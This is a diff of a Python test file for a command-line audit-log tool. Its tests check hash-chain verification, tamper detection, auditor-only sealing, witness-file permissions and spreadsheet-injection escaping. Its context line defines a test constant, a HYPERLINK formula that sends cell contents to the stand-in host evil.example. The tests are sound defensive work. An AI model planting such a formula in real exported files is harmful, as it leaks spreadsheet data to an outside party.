@@ -19,23 +19,70 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
 def test_verify_then_tamper(mash):
-    run = mash("audit", "verify")
-    assert run.rc == 0 and run.out.startswith("Audit chain intact")
+    run = mash("audit", "verify", at="HUB")
+    assert run.rc == 0 and run.out.startswith("Audit chain intact"), run.err
     db = Database(mash.url)
     with db.engine.begin() as conn:
         conn.execute(text("UPDATE audit_events SET actor_name = 'someone' WHERE id = 5"))
     db.dispose()
-    run = mash("audit", "verify")
+    run = mash("audit", "verify", at="CSC")
     assert run.rc == 1 and "(event 5)" in run.err and run.out == ""
 
 
-def test_seal_needs_an_auditor(mash):
-    run = mash("audit", "seal", "--as", "csc.lead", stdin=[PASSWORD], at="CSC")
-    assert run.rc == 1 and "auditor" in run.err
-    run = mash("audit", "seal", "--as", "hub.auditor", stdin=[PASSWORD], at="HUB")
-    assert run.rc == 0 and re.match(r"Sealed the audit chain at event \d+", run.out), run.err
+def test_verify_needs_the_keys_of_an_enrolled_workstation(mash):
     run = mash("audit", "verify")
+    assert run.rc == 2 and "enrolled workstation" in run.err
+    run = mash("audit", "verify", "--as", "pol.officer", stdin=[PASSWORD], at="POL")
+    assert run.rc == 0 and run.out.startswith("Audit chain intact"), run.err
+
+
+def test_seal_needs_an_auditor(mash, tmp_path):
+    witness = tmp_path / "private" / "witness.jsonl"
+    run = mash("audit", "seal", "--as", "csc.lead", "--witness", str(witness), stdin=[PASSWORD], at="CSC")
+    assert run.rc == 1 and "auditor" in run.err and not witness.exists()
+    run = mash("audit", "seal", "--as", "hub.auditor", "--witness", str(witness), stdin=[PASSWORD], at="HUB")
+    assert run.rc == 0 and re.match(r"Sealed the audit chain at event \d+", run.out), run.err
+    run = mash("audit", "verify", at="HUB")
     assert run.rc == 0 and "1 signed checkpoints" in run.out
+    assert stat.S_IMODE(witness.stat().st_mode) == 0o600 and stat.S_IMODE(witness.parent.stat().st_mode) == 0o700
+
+
+def _event_count(url: str) -> int:
+    db = Database(url)
+    with db.read() as s:
+        count = s.scalar(text("SELECT max(id) FROM audit_events"))
+    db.dispose()
+    return count
+
+
+def test_a_cut_tail_with_the_head_moved_back_is_caught_by_the_witness(mash, tmp_path):
+    witness = tmp_path / "witness.jsonl"
+    cut = _event_count(mash.url)  # the chain as it will be left
+    for _ in range(2):
+        run = mash("audit", "seal", "--as", "hub.auditor", "--witness", str(witness), stdin=[PASSWORD], at="HUB")
+        assert run.rc == 0, run.err
+    run = mash("audit", "verify", "--witness", str(witness), at="HUB")
+    assert run.rc == 0 and "2 witnessed checkpoints match" in run.out, run.err
+    db = Database(mash.url)
+    with db.engine.begin() as conn:  # the database owner cuts the tail, checkpoints and all
+        conn.execute(text("DELETE FROM audit_checkpoints"))
+        conn.execute(text("DELETE FROM audit_events WHERE id > :cut"), {"cut": cut})
+        conn.execute(text("UPDATE audit_head SET last_event_id = :cut, "
+                          "last_hash = (SELECT hash FROM audit_events WHERE id = :cut)"), {"cut": cut})
+    db.dispose()
+    assert mash("audit", "verify", at="HUB").rc == 0  # nothing in the database tells
+    run = mash("audit", "verify", "--witness", str(witness), at="HUB")
+    assert run.rc == 1 and f"the chain ends at event {cut}" in run.err and "line 1: event" in run.err, run.err
+    assert "sealed" in run.err and "by hub.auditor" in run.err
+
+
+def test_a_witness_file_that_is_not_one_is_refused(mash, tmp_path):
+    notes = tmp_path / "notes.jsonl"
+    notes.write_text('{"format": 1, "event_id": 3}\n')
+    run = mash("audit", "verify", "--witness", str(notes), at="HUB")
+    assert run.rc == 2 and "Line 1" in run.err
+    run = mash("audit", "verify", "--witness", str(tmp_path / "none.jsonl"), at="HUB")
+    assert run.rc == 2 and "no witness file" in run.err
 
 
 @pytest.mark.parametrize("cell,safe", [("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
